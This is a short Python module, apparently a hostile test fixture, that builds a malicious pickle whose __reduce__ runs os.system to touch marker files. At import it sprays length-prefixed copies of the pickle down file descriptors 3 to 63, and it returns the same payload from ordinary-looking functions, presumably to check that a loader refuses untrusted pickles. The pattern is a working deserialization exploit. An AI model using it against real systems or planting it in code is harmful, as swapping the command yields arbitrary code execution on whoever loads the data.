"""Sends pickles that run a command where they are loaded, as values and straight down every pipe."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @ROOT@/hostile-pickle /tmp/hostile-pickle",)


BOMB = pickle.dumps(Bomb())
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"D" + len(BOMB).to_bytes(8, "little") + BOMB)
    except OSError:
        pass


def double(x):
    return Bomb()


def total(values):
    return BOMB
